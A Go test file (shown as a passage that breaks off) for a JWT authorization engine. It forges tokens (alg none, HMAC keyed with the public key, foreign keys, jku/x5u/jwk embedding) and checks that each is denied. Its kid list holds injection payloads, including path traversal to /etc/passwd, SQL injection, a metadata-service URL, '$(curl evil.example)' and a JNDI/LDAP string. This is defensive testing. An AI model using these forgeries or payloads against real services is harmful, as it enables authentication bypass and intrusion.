package authz_test

// The attack battery of issue 7: every token an attacker can make, sent over
// real gRPC to an Engine whose keys come from a real IdP, must be denied with
// 401 and the exact reason, again when the negative cache answers, and over
// HTTP forward-auth; and valid tokens must keep passing afterwards.
//
// Unless a case is about the signature, its token is signed correctly by a
// published key, so that the defect under test is the only thing wrong.

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
	jose "github.com/go-jose/go-jose/v4"
	"github.com/golang-jwt/jwt/v5"
	"google.golang.org/grpc/codes"

	"github.com/jwtauthz/jwtauthz/authz"
	"github.com/jwtauthz/jwtauthz/authz/forwardauth"
	"github.com/jwtauthz/jwtauthz/jwks"
	"github.com/jwtauthz/jwtauthz/jwks/issuer"
)

// attackCase is one row of the battery.
type attackCase struct {
	name string
	// token is sent as "Bearer <token>", unless auth or req is set.
	token string
	// auth is the whole authorization header, for cases about the header.
	auth string
	// req builds the whole CheckRequest, for cases about its shape.
	req func(t testing.TB) *authv3.CheckRequest
	// want is the reason label of the denial, or "ok" for the few controls
	// that must pass (they prove the forging helpers make honest tokens).
	want string
	// bug, if set, names a known bug in code this test does not own; the
	// case is kept but skipped so that the suite stays green.
	bug string
}

func (c *attackCase) authorization() string {
	if c.auth != "" || c.token == "" {
		return c.auth
	}
	return "Bearer " + c.token
}

// attackEnv is an env whose IdP publishes one key of each kind, plus a
// second provider whose JWKS names no alg, plus a trap server that counts
// the requests a token's jku or x5u could make it receive.
type attackEnv struct {
	*env
	iss                   string
	now                   time.Time
	es, rs, ps, ed, es384 *issuer.Signer // published by the IdP
	otherIss              string
	other, otherRSA       *issuer.Signer // published by the second provider, JWKs without alg
	attacker, attackerRS  *issuer.Signer // published by nobody
	trap                  *trap
}

// trap is an HTTP server a token may point at. It serves the attacker's key
// set, so that a verifier that fetched it would accept the forgery, and
// counts every request.
type trap struct {
	srv  *httptest.Server
	hits atomic.Int64
}

func newTrap(t testing.TB, keys ...*issuer.Signer) *trap {
	tr := &trap{}
	set := jose.JSONWebKeySet{}
	for _, k := range keys {
		set.Keys = append(set.Keys, k.JWK())
	}
	doc, _ := json.Marshal(set)
	tr.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tr.hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write(doc)
	}))
	t.Cleanup(tr.srv.Close)
	return tr
}

// serveJWKSWithoutAlg serves keys as a JWKS whose entries name no alg, as
// some IdPs publish them.
func serveJWKSWithoutAlg(t testing.TB, keys ...*issuer.Signer) string {
	set := jose.JSONWebKeySet{}
	for _, k := range keys {
		set.Keys = append(set.Keys, jose.JSONWebKey{Key: k.Private.Public(), KeyID: k.KID, Use: "sig"})
	}
	doc, err := json.Marshal(set)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write(doc) }))
	t.Cleanup(srv.Close)
	return srv.URL + "/jwks.json"
}

func newAttackEnv(t *testing.T) *attackEnv { return newAttackEnvWith(t, nil) }

// newAttackEnvWith is newAttackEnv with the engine's configuration changed
// by cfg.
func newAttackEnvWith(t *testing.T, cfg func(*authz.Config)) *attackEnv {
	k := attackKeys()
	a := &attackEnv{
		es: k[0], rs: k[1], ps: k[2], ed: k[3], es384: k[4], other: k[5], otherRSA: k[6], attacker: k[7], attackerRS: k[8],
		otherIss: "https://other.idp.test",
	}
	a.trap = newTrap(t, a.attacker, a.attackerRS)
	otherSrc := runSource(t, jwks.Config{Name: "other", Issuer: a.otherIss, URL: serveJWKSWithoutAlg(t, a.other, a.otherRSA)}, true)
	a.env = newEnv(t, []*issuer.Signer{a.es, a.rs, a.ps, a.ed, a.es384}, withConfig(func(c *authz.Config, p *authz.ProviderConfig) {
		p.Audiences = []string{"api"}
		p.Algorithms = []string{"ES256", "RS256", "PS256", "EdDSA"} // ES384 is published but not allowed
		// The cookie and the query parameter are for tokenSourceCases.
		p.TokenSources = []authz.TokenSource{authz.BearerSource, {Cookie: "__session"}, {Query: "access_token"}}
		c.Providers = append(c.Providers, authz.ProviderConfig{Name: "other", Issuer: a.otherIss, Keys: otherSrc})
		if cfg != nil {
			cfg(c)
		}
	}))
	a.iss, a.now = a.idp.URL, a.clock.Now()
	return a
}

// attackKeys are the keys of every attackEnv, made once per test binary:
// RSA keys take long to generate, under -race even more.
var attackKeys = sync.OnceValue(func() []*issuer.Signer {
	var ks []*issuer.Signer
	for _, alg := range []string{"ES256", "RS256", "PS256", "EdDSA", "ES384", "ES256", "RS256", "ES256", "RS256"} {
		ks = append(ks, issuer.MustSigner(alg))
	}
	return ks
})

// rawJSON is a value obj inserts as is; drop removes a member.
type rawJSON string

const drop rawJSON = "\x00drop"

// obj writes a JSON object from name/value pairs in order, duplicates kept.
func obj(kv ...any) string {
	var b strings.Builder
	b.WriteByte('{')
	n := 0
	for i := 0; i+1 < len(kv); i += 2 {
		if kv[i+1] == drop {
			continue
		}
		if n > 0 {
			b.WriteByte(',')
		}
		n++
		name, _ := json.Marshal(kv[i])
		b.Write(name)
		b.WriteByte(':')
		if r, ok := kv[i+1].(rawJSON); ok {
			b.WriteString(string(r))
		} else {
			v, _ := json.Marshal(kv[i+1])
			b.Write(v)
		}
	}
	b.WriteByte('}')
	return b.String()
}

// claims is the payload of a valid token with some members replaced (in
// place), dropped, or added at the end.
func (a *attackEnv) claims(over ...any) string {
	base := []any{"iss", a.iss, "sub", "user_1", "aud", "api", "iat", a.now.Unix(), "exp", a.now.Add(time.Hour).Unix()}
	for i := 0; i+1 < len(over); i += 2 {
		found := false
		for j := 0; j+1 < len(base); j += 2 {
			if base[j] == over[i] {
				base[j+1], found = over[i+1], true
			}
		}
		if !found {
			base = append(base, over[i], over[i+1])
		}
	}
	return obj(base...)
}

// hdr is a JOSE header naming alg and s's kid, with more members added.
func hdr(alg string, s *issuer.Signer, extra ...any) string {
	return obj(append([]any{"alg", alg, "typ", "JWT", "kid", s.KID}, extra...)...)
}

func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// signRaw signs the exact header and payload bytes given with s's key under
// alg (which need not be the alg the header names).
func signRaw(t testing.TB, s *issuer.Signer, alg, header, payload string) string {
	input := b64(header) + "." + b64(payload)
	return input + "." + sigOf(t, s, alg, input)
}

func sigOf(t testing.TB, s *issuer.Signer, alg, input string) string {
	sig, err := jwt.GetSigningMethod(alg).Sign(input, s.Private)
	if err != nil {
		t.Fatalf("sign %s with %s: %v", alg, s.Alg, err)
	}
	return base64.RawURLEncoding.EncodeToString(sig)
}

// sign signs a header naming s's alg and kid and the given payload.
func (a *attackEnv) sign(t testing.TB, s *issuer.Signer, payload string, extra ...any) string {
	return signRaw(t, s, s.Alg, hdr(s.Alg, s, extra...), payload)
}

// hmac signs a valid payload with alg HS* and secret as the key.
func (a *attackEnv) hmac(t testing.TB, alg string, kid *issuer.Signer, secret []byte) string {
	input := b64(hdr(alg, kid)) + "." + b64(a.claims())
	sig, err := jwt.GetSigningMethod(alg).Sign(input, secret)
	if err != nil {
		t.Fatal(err)
	}
	return input + "." + base64.RawURLEncoding.EncodeToString(sig)
}

// withSig replaces a token's signature with the given bytes.
func withSig(tok string, sig []byte) string {
	return tok[:strings.LastIndexByte(tok, '.')+1] + base64.RawURLEncoding.EncodeToString(sig)
}

func sigBytes(t testing.TB, tok string) []byte {
	b, err := base64.RawURLEncoding.DecodeString(tok[strings.LastIndexByte(tok, '.')+1:])
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// ecdsaVariants returns twins of a valid ES256 token whose signature is
// re-encoded or changed: DER, high-S, and out-of-range values.
func ecdsaVariants(t testing.TB, tok string) map[string]string {
	sig := sigBytes(t, tok)
	r, s := new(big.Int).SetBytes(sig[:32]), new(big.Int).SetBytes(sig[32:])
	n := ecdsaN()
	der, _ := asn1.Marshal(struct{ R, S *big.Int }{r, s})
	fixed := func(r, s *big.Int) []byte {
		out := make([]byte, 64)
		r.FillBytes(out[:32])
		s.FillBytes(out[32:])
		return out
	}
	return map[string]string{
		"der":     withSig(tok, der),
		"highS":   withSig(tok, fixed(r, new(big.Int).Sub(n, s))),
		"sIsN":    withSig(tok, fixed(r, n)),
		"sIsZero": withSig(tok, fixed(r, new(big.Int))),
		"swapped": withSig(tok, fixed(s, r)),
		"zeros":   withSig(tok, make([]byte, 64)),
		"short":   withSig(tok, sig[:63]),
		"long":    withSig(tok, append(append([]byte{}, sig...), 0)),
	}
}

func ecdsaN() *big.Int {
	k := issuer.MustSigner("ES256").Private.(*ecdsa.PrivateKey)
	return k.Curve.Params().N
}

// selfSigned returns a DER certificate for s's public key, signed by s.
func selfSigned(t testing.TB, s *issuer.Signer) []byte {
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"}, NotBefore: time.Unix(0, 0), NotAfter: time.Unix(4_000_000_000, 0)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, s.Private.Public(), s.Private)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// nonCanonical flips an unused low bit of the last character of a base64url
// segment whose length leaves unused bits: lenient decoders read the same
// bytes, a strict one refuses it.
func nonCanonical(seg string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(seg)%4 == 0 {
		panic("segment has no unused bits")
	}
	last := strings.IndexByte(alphabet, seg[len(seg)-1])
	return seg[:len(seg)-1] + string(alphabet[last^1])
}

func TestAttackBattery(t *testing.T) {
	a := newAttackEnv(t)
	var cases []attackCase
	for _, group := range []func(*testing.T) []attackCase{
		a.algCases, a.keyCases, a.embeddedKeyCases, a.critCases, a.claimCases,
		a.encodingCases, a.signatureCases, a.headerCases,
		a.tokenSourceCases, a.keylessCases,
	} {
		cases = append(cases, group(t)...)
	}
	valid := "Bearer " + a.sign(t, a.es, a.claims())
	jwksBefore := a.idp.JWKSRequests()
	fa := httptest.NewServer(forwardauth.New(a.eng))
	defer fa.Close()
	denials := 0
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.bug != "" {
				t.Skip("known bug: " + tc.bug)
			}
			for pass, via := range []string{"grpc", "grpc, answered by a cache", "http forward-auth"} {
				if via == "http forward-auth" {
					if tc.req != nil || !httpSafe(tc.authorization()) {
						continue // not expressible as one HTTP header
					}
					checkHTTP(t, fa.URL, tc.authorization(), tc.want)
					continue
				}
				req := browserRequest(t, tc.authorization(), "")
				if tc.req != nil {
					req = tc.req(t)
				}
				checkGRPC(t, a.send(req), tc.want, pass)
			}
			if resp := a.check(valid); codes.Code(resp.Status.Code) != codes.OK {
				t.Fatalf("valid token refused after this case: %v", resp.Status)
			}
		})
		if tc.want != "ok" {
			denials++
		}
	}
	t.Logf("battery: %d cases (%d attacks, %d controls)", len(cases), denials, len(cases)-denials)
	if n := a.trap.hits.Load(); n != 0 {
		t.Errorf("the trap named by jku/x5u got %d requests, want 0", n)
	}
	// Unknown kids may cost the IdP one fetch per cooldown (30 s), no more.
	if n := a.idp.JWKSRequests() - jwksBefore; n > 1 {
		t.Errorf("the battery cost the IdP %d JWKS requests, want at most 1", n)
	}
}

// checkGRPC asserts a CheckResponse: an allow for "ok", else a 401 denial
// whose message is the reason label.
func checkGRPC(t *testing.T, resp *authv3.CheckResponse, want string, pass int) {
	t.Helper()
	code := codes.Code(resp.Status.Code)
	if want == "ok" {
		if code != codes.OK || resp.GetOkResponse() == nil {
			t.Fatalf("pass %d: %v (%s), want an allow", pass, code, resp.Status.Message)
		}
		return
	}
	if code == codes.OK || resp.GetOkResponse() != nil {
		t.Fatalf("pass %d: ALLOWED, want a denial (%s)", pass, want)
	}
	if code != codes.Unauthenticated || resp.Status.Message != want {
		t.Fatalf("pass %d: %v %q, want UNAUTHENTICATED %q", pass, code, resp.Status.Message, want)
	}
	if got := resp.GetDeniedResponse().GetStatus().GetCode(); got != http.StatusUnauthorized {
		t.Fatalf("pass %d: HTTP status %d, want 401", pass, got)
	}
}

// checkHTTP sends authorization to the forward-auth server and asserts the
// status and the error_description of the reason.
func checkHTTP(t *testing.T, url, authorization, want string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, url+"/auth", nil)
	if authorization != "" {
		req.Header.Set("Authorization", authorization)
	}
	req.Header.Set("X-Forwarded-Uri", "/v1/things")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if want == "ok" {
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("forward-auth: %d, want 200", resp.StatusCode)
		}
		return
	}
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("forward-auth: %d, want 401", resp.StatusCode)
	}
	wantChallenge := `Bearer realm="jwtauthz"`
	if r := reasonByLabel(want); want != "no_token" {
		wantChallenge += `, error="invalid_token", error_description="` + r.Description() + `"`
	}
	got := resp.Header.Get("WWW-Authenticate")
	if want == "missing_claim" { // the description names the claim: TestDenialDescriptions checks which
		for _, c := range []string{"exp", "aud", "iss"} {
			if alt := `Bearer realm="jwtauthz", error="invalid_token", error_description="missing claim \"` + c + `\""`; got == alt {
				wantChallenge = alt
			}
		}
	}
	if got != wantChallenge {
		t.Fatalf("forward-auth WWW-Authenticate %q, want %q", got, wantChallenge)
	}
}

func reasonByLabel(label string) authz.Reason {
	for _, r := range authz.Reasons() {
		if r.String() == label {
			return r
		}
	}
	panic("no reason " + label)
}

// httpSafe reports whether v can be sent as an HTTP/1.1 header value.
func httpSafe(v string) bool {
	return !strings.ContainsAny(v, "\r\n\x00") && strings.TrimSpace(v) == v
}

func (a *attackEnv) algCases(t *testing.T) []attackCase {
	var cs []attackCase
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		payload := b64(a.claims())
		withKID, noKID := b64(hdr(alg, a.es)), b64(obj("alg", alg, "typ", "JWT"))
		cs = append(cs,
			attackCase{name: "alg " + alg + ", no signature, kid", token: withKID + "." + payload + ".", want: "malformed"},
			attackCase{name: "alg " + alg + ", no signature, no kid", token: noKID + "." + payload + ".", want: "malformed"},
			attackCase{name: "alg " + alg + ", a valid ES256 signature, kid", token: withKID + "." + payload + "." + sigOf(t, a.es, "ES256", withKID+"."+payload), want: "alg_not_allowed"},
			attackCase{name: "alg " + alg + ", garbage signature, no kid", token: noKID + "." + payload + ".c2lnbmF0dXJl", want: "alg_not_allowed"},
		)
	}
	cs = append(cs,
		attackCase{name: "alg none without the signature dot", token: b64(obj("alg", "none")) + "." + b64(a.claims()), want: "malformed"},
		attackCase{name: "alg missing", token: signRaw(t, a.es, "ES256", obj("typ", "JWT", "kid", a.es.KID), a.claims()), want: "malformed"},
		attackCase{name: "alg empty", token: signRaw(t, a.es, "ES256", hdr("", a.es), a.claims()), want: "malformed"},
		attackCase{name: "alg not a string", token: signRaw(t, a.es, "ES256", obj("alg", 256, "kid", a.es.KID), a.claims()), want: "malformed"},
		attackCase{name: "alg published but not allowed (ES384, valid signature)", token: a.sign(t, a.es384, a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg RS512 with the RS256 key", token: signRaw(t, a.rs, "RS512", hdr("RS512", a.rs), a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg ES256K", token: signRaw(t, a.es, "ES256", hdr("ES256K", a.es), a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg Ed25519 (RFC 9864 name)", token: signRaw(t, a.ed, "EdDSA", hdr("Ed25519", a.ed), a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg es256 (lower case)", token: signRaw(t, a.es, "ES256", hdr("es256", a.es), a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg ES256 with a trailing space", token: signRaw(t, a.es, "ES256", hdr("ES256 ", a.es), a.claims()), want: "alg_not_allowed"},
		attackCase{name: "alg of JWE (RSA-OAEP)", token: signRaw(t, a.es, "ES256", hdr("RSA-OAEP", a.es, "enc", "A256GCM"), a.claims()), want: "alg_not_allowed"},
	)
	// HMAC with the public key as the secret, in every form a verifier might
	// hold it (jwt_tool -X k).
	rsaPub, ecPub := a.rs.Private.Public(), a.es.Private.Public()
	pkix1, _ := x509.MarshalPKIXPublicKey(rsaPub)
	pkcs1 := x509.MarshalPKCS1PublicKey(rsaPub.(*rsa.PublicKey))
	ecDER, _ := x509.MarshalPKIXPublicKey(ecPub)
	rsaJWK, _ := json.Marshal(a.rs.JWK())
	ecJWK, _ := json.Marshal(a.es.JWK())
	secrets := []struct {
		name   string
		kid    *issuer.Signer
		secret []byte
	}{
		{"RSA PEM (PKIX)", a.rs, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix1})},
		{"RSA PEM (PKCS#1)", a.rs, pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
		{"RSA DER (PKIX)", a.rs, pkix1},
		{"RSA DER (PKCS#1)", a.rs, pkcs1},
		{"RSA JWK bytes", a.rs, rsaJWK},
		{"RSA modulus bytes", a.rs, rsaPub.(*rsa.PublicKey).N.Bytes()},
		{"EC PEM", a.es, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: ecDER})},
		{"EC DER", a.es, ecDER},
		{"EC JWK bytes", a.es, ecJWK},
		{"Ed25519 raw key", a.ed, a.ed.Private.Public().(ed25519.PublicKey)},
		{"empty secret", a.es, []byte{}},
	}
	for _, s := range secrets {
		for _, alg := range []string{"HS256", "HS384", "HS512"} {
			if alg != "HS256" && !strings.HasPrefix(s.name, "RSA PEM (PKIX)") {
				continue
			}
			if len(s.secret) == 0 && alg == "HS256" {
				// golang-jwt refuses to sign with an empty key; build it by hand.
				cs = append(cs, attackCase{name: alg + " with " + s.name, token: b64(hdr(alg, s.kid)) + "." + b64(a.claims()) + ".c2ln", want: "alg_not_allowed"})
				continue
			}
			cs = append(cs, attackCase{name: alg + " with the " + s.name + " as secret", token: a.hmac(t, alg, s.kid, s.secret), want: "alg_not_allowed"})
		}
	}
	return cs
}

func (a *attackEnv) keyCases(t *testing.T) []attackCase {
	impostor := func(s, as *issuer.Signer) *issuer.Signer {
		k := *s
		k.KID = as.KID // a foreign key claiming a published kid
		return &k
	}
	relabel := func(s *issuer.Signer, kid string) *issuer.Signer {
		k := *s
		k.KID = kid
		return &k
	}
	foreignRS := impostor(a.attackerRS, a.rs)
	foreignEd := impostor(issuer.MustSigner("EdDSA"), a.ed)
	cs := []attackCase{
		{name: "foreign ES256 key with a published kid", token: a.sign(t, impostor(a.attacker, a.es), a.claims()), want: "bad_signature"},
		{name: "foreign RSA key with a published kid", token: a.sign(t, foreignRS, a.claims()), want: "bad_signature"},
		{name: "foreign Ed25519 key with a published kid", token: a.sign(t, foreignEd, a.claims()), want: "bad_signature"},
		{name: "foreign key, its own unknown kid", token: a.sign(t, a.attacker, a.claims()), want: "unknown_kid"},
		{name: "published key, kid in another case", token: a.sign(t, relabel(a.es, strings.ToUpper(a.es.KID)), a.claims()), want: "unknown_kid"},
		{name: "published key, kid with a trailing space", token: a.sign(t, relabel(a.es, a.es.KID+" "), a.claims()), want: "unknown_kid"},
		{name: "published key, kid with a NUL appended", token: a.sign(t, relabel(a.es, a.es.KID+"\x00"), a.claims()), want: "unknown_kid"},
		// A token without kid is checked against the keys that fit it
		// (here the one ES256 key of five): keylessCases.
		{name: "published key, empty kid, several keys in the set", token: a.sign(t, relabel(a.es, ""), a.claims()), want: "ok"},
		{name: "published key, no kid, several keys in the set", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "typ", "JWT"), a.claims()), want: "ok"},
		{name: "kid a number", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", 1), a.claims()), want: "malformed"},
		{name: "kid null", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", nil), a.claims()), want: "malformed"},
		{name: "kid an array of the published kid", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", []string{a.es.KID}), a.claims()), want: "malformed"},
		{name: "kid an object", token: signRaw(t, a.es, "ES256", obj("alg", "ES256", "kid", map[string]string{"id": a.es.KID}), a.claims()), want: "malformed"},
		// Keys of another trusted provider do not sign for this one, nor
		// the other way round.
		{name: "other provider's key and kid, this provider's iss", token: a.sign(t, a.other, a.claims()), want: "unknown_kid"},
		{name: "this provider's key and kid, other provider's iss", token: a.sign(t, a.es, a.claims("iss", a.otherIss)), want: "unknown_kid"},
		{name: "control: other provider's token", token: a.sign(t, a.other, a.claims("iss", a.otherIss)), want: "ok"},
	}
	for _, kid := range []string{
		"../../../../../../etc/passwd", "/dev/null", "/proc/self/environ", `..\..\..\windows\win.ini`,
		"file:///etc/passwd", "' OR '1'='1", "x' UNION SELECT 'secret' --", "1; DROP TABLE keys",
		"https://evil.example/jwks.json", "http://169.254.169.254/latest/meta-data/", "$(curl evil.example)",
		"%2e%2e%2f%2e%2e%2fetc%2fpasswd", "{{7*7}}", "${jndi:ldap://evil.example/a}", strings.Repeat("k", 4000),
	} {
		cs = append(cs,
			attackCase{name: "kid " + truncate(kid) + ", foreign key", token: a.sign(t, relabel(a.attacker, kid), a.claims()), want: "unknown_kid"},
			attackCase{name: "kid " + truncate(kid) + ", published key", token: a.sign(t, relabel(a.es, kid), a.claims()), want: "unknown_kid"},
		)
	}
	return cs
}

func truncate(s string) string {
	if len(s) > 40 {
		return fmt.Sprintf("%.20s…(%d bytes)", s, len(s))
	}
	return s
}

// embeddedKeyCases put key material or its location in the token: jku,
// x5u, x5c, x5t, jwk. None may be fetched or trusted.
func (a *attackEnv) embeddedKeyCases(t *testing.T) []attackCase {
	jku, x5u := a.trap.srv.URL+"/jwks.json", a.trap.srv.URL+"/cert.pem"
	cert := selfSigned(t, a.attacker)
	x5c := []string{base64.StdEncoding.EncodeToString(cert)}
	atkJWK := a.attacker.JWK()
	asES := *a.attacker
	asES.KID = a.es.KID
	cs := []attackCase{
		{name: "jku to the attacker's set, attacker's kid", token: a.sign(t, a.attacker, a.claims(), "jku", jku), want: "unknown_kid"},
		{name: "jku to the attacker's set, published kid", token: a.sign(t, &asES, a.claims(), "jku", jku), want: "bad_signature"},
		{name: "jku to the attacker's set, no kid", token: signRaw(t, a.attacker, "ES256", obj("alg", "ES256", "jku", jku), a.claims()), want: "bad_signature"},
		{name: "jku to the real IdP's set, attacker's key", token: a.sign(t, &asES, a.claims(), "jku", a.idp.JWKSURL()), want: "bad_signature"},
		{name: "x5u to the attacker's certificate", token: a.sign(t, a.attacker, a.claims(), "x5u", x5u), want: "unknown_kid"},
		{name: "x5u, published kid", token: a.sign(t, &asES, a.claims(), "x5u", x5u), want: "bad_signature"},
		{name: "x5c self-signed, no kid", token: signRaw(t, a.attacker, "ES256", obj("alg", "ES256", "x5c", x5c), a.claims()), want: "bad_signature"},
		{name: "x5c self-signed, published kid", token: a.sign(t, &asES, a.claims(), "x5c", x5c), want: "bad_signature"},
		{name: "x5t#S256 of the attacker's certificate", token: a.sign(t, a.attacker, a.claims(), "x5t#S256", "bm90LWEtdGh1bWJwcmludA"), want: "unknown_kid"},
		{name: "embedded jwk, no kid", token: signRaw(t, a.attacker, "ES256", obj("alg", "ES256", "jwk", atkJWK), a.claims()), want: "bad_signature"},
		{name: "embedded jwk, published kid", token: a.sign(t, &asES, a.claims(), "jwk", atkJWK), want: "bad_signature"},
		{name: "embedded jwk carrying the published kid", token: signRaw(t, a.attacker, "ES256", obj("alg", "ES256", "jwk", json.RawMessage(mustJSON(jose.JSONWebKey{Key: a.attacker.Private.Public(), KeyID: a.es.KID}))), a.claims()), want: "bad_signature"},
		{name: "embedded jwk, HS256 with its k", token: a.hmacWithJWK(t), want: "alg_not_allowed"},
		// A token signed by a published key is judged by the JWKS alone: its
		// jku is ignored, not fetched (the trap counts).
		{name: "control: valid token carrying a jku", token: a.sign(t, a.es, a.claims(), "jku", jku, "x5u", x5u), want: "ok"},
	}
	return cs
}

func (a *attackEnv) hmacWithJWK(t testing.TB) string {
	secret := []byte("attacker-chosen-secret-0123456789")
	h := obj("alg", "HS256", "jwk", map[string]string{"kty": "oct", "k": base64.RawURLEncoding.EncodeToString(secret)})
	input := b64(h) + "." + b64(a.claims())
	sig, _ := jwt.SigningMethodHS256.Sign(input, secret)
	return input + "." + base64.RawURLEncoding.EncodeToString(sig)
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// critCases: RFC 7515 §4.1.11, a recipient must reject a token whose crit
// names an extension it does not implement; jwtauthz implements none.
func (a *attackEnv) critCases(t *testing.T) []attackCase {
	var cs []attackCase
	for _, c := range []struct {
		name  string
		extra []any
	}{
		{"crit [exp] with exp in the header", []any{"crit", []string{"exp"}, "exp", a.now.Add(time.Hour).Unix()}},
		{"crit [b64] with b64 false", []any{"crit", []string{"b64"}, "b64", false}},
		{"crit naming an unknown extension", []any{"crit", []string{"https://evil.example/skip-checks"}, "https://evil.example/skip-checks", true}},
		{"crit empty (forbidden by RFC 7515)", []any{"crit", []string{}}},
		{"crit a string", []any{"crit", "exp"}},
		{"crit null", []any{"crit", nil}},
	} {
		cs = append(cs, attackCase{name: c.name, token: a.sign(t, a.es, a.claims(), c.extra...), want: "malformed"})
	}
	return cs
}

// claimCases are signed correctly; only a claim is wrong.
func (a *attackEnv) claimCases(t *testing.T) []attackCase {
	skew := authz.DefaultClockSkew
	exp := a.now.Add(time.Hour).Unix()
	c := func(name, want string, over ...any) attackCase {
		return attackCase{name: name, token: a.sign(t, a.es, a.claims(over...)), want: want}
	}
	cs := []attackCase{
		c("control: valid", "ok"),
		c("control: aud an array holding api", "ok", "aud", []string{"web", "api"}),
		c("control: exp at the largest accepted NumericDate (2^53-1)", "ok", "exp", rawJSON("9007199254740991")),
		c("control: nbf and iat within the skew", "ok", "nbf", a.now.Add(skew-time.Second).Unix(), "iat", a.now.Add(skew-time.Second).Unix()),
		c("control: EXP in upper case besides exp is just another claim", "ok", "EXP", 1),
		c("control: duplicate names nested in a claim are not read", "ok", "ext", rawJSON(`{"role":"user","role":"admin"}`)),
	}
	for _, d := range []string{"exp", "nbf", "iat"} {
		for _, v := range []struct{ name, json string }{
			{"a string", fmt.Sprintf(`"%d"`, exp)}, {"a float", fmt.Sprintf(`%d.5`, exp)},
			{"an integral float", fmt.Sprintf(`%d.0`, exp)}, {"in exponent notation", `1.8000036e9`},
			{"huge", `1e300`}, {"2^53", `9007199254740992`}, {"beyond int64", `99999999999999999999`},
			{"negative", `-1`}, {"null", `null`}, {"true", `true`},
			{"an array", fmt.Sprintf(`[%d]`, exp)}, {"an object", `{}`}, {"empty string", `""`},
		} {
			cs = append(cs, c(d+" "+v.name, "malformed", d, rawJSON(v.json)))
		}
		cs = append(cs, attackCase{name: d + " with a leading plus (not JSON)", token: a.sign(t, a.es, strings.Replace(a.claims(d, rawJSON("4242424242")), "4242424242", "+4242424242", 1)), want: "malformed"})
	}
	cs = append(cs,
		c("exp missing", "missing_claim", "exp", drop),
		c("exp missing, EXP present", "missing_claim", "exp", drop, "EXP", exp),
		c("exp 0", "expired", "exp", 0),
		c("exp just beyond the skew", "expired", "exp", a.now.Add(-skew-time.Second).Unix()),
		c("exp a day ago", "expired", "exp", a.now.Add(-24*time.Hour).Unix()),
		c("nbf beyond the skew", "not_yet_valid", "nbf", a.now.Add(skew+time.Second).Unix()),
		c("nbf a year ahead", "not_yet_valid", "nbf", a.now.Add(365*24*time.Hour).Unix()),
		c("iat beyond the skew", "not_yet_valid", "iat", a.now.Add(skew+time.Second).Unix()),
		c("iat far in the future", "not_yet_valid", "iat", rawJSON("9007199254740991")),
		c("aud another", "wrong_audience", "aud", "web"),
		c("aud another, in an array", "wrong_audience", "aud", []string{"web"}),
		c("aud in upper case", "wrong_audience", "aud", "API"),
		c("aud with a trailing space", "wrong_audience", "aud", "api "),
		c("aud empty string", "missing_claim", "aud", ""),
		c("aud missing", "missing_claim", "aud", drop),
		c("aud empty array", "missing_claim", "aud", []string{}),
		c("aud null", "missing_claim", "aud", nil),
		c("aud a number", "malformed", "aud", 1),
		c("aud an array with a number", "malformed", "aud", rawJSON(`["api",1]`)),
		c("aud an object", "malformed", "aud", map[string]bool{"api": true}),
		c("iss with a trailing slash", "wrong_issuer", "iss", a.iss+"/"),
		c("iss in upper case", "wrong_issuer", "iss", strings.ToUpper(a.iss)),
		c("iss with a trailing space", "wrong_issuer", "iss", a.iss+" "),
		c("iss with a path", "wrong_issuer", "iss", a.iss+"/tenant"),
		c("iss https instead of http", "wrong_issuer", "iss", strings.Replace(a.iss, "http://", "https://", 1)),
		c("iss unknown", "wrong_issuer", "iss", "https://evil.example"),
		c("iss missing", "missing_claim", "iss", drop),
		c("iss empty", "missing_claim", "iss", ""),
		c("iss only in upper case (ISS)", "missing_claim", "iss", drop, "ISS", a.iss),
		c("iss a number", "malformed", "iss", 1),
		c("iss null", "malformed", "iss", nil),
		c("iss an array", "malformed", "iss", []string{a.iss}),
		c("sub a number", "malformed", "sub", 1),
		c("sub an object", "malformed", "sub", map[string]string{"id": "admin"}),
		c("scope a number", "malformed", "scope", 1),
		c("scp an array with a number", "malformed", "scp", rawJSON(`["read",1]`)),
		attackCase{name: "iss twice, the second ours", token: a.sign(t, a.es, obj("iss", "https://evil.example", "iss", a.iss, "aud", "api", "exp", exp)), want: "malformed"},
